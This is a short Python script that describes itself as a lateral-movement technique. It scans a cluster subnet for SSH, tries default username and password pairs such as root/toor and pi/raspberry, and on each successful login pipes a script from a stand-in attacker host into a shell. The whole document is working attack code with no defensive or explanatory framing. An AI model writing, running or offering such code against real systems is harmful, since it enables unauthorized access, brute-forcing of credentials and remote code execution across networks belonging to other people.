# technique: lateral movement: scan for ssh on the cluster network and try a short list of default credentials with paramiko
import socket, paramiko
creds = [("root", "root"), ("root", "toor"), ("admin", "admin"), ("ubuntu", "ubuntu"), ("pi", "raspberry")]
for last in range(1, 255):
    ip = "10.96.0.%d" % last
    s = socket.socket(); s.settimeout(0.3)
    if s.connect_ex((ip, 22)): s.close(); continue
    s.close()
    for u, p in creds:
        c = paramiko.SSHClient(); c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
        try:
            c.connect(ip, username=u, password=p, timeout=3, allow_agent=False, look_for_keys=False)
            c.exec_command("curl -fsSL http://attacker.example/x.sh | sh")
            print("owned", ip, u); break
        except Exception:
            pass
        finally:
            c.close()
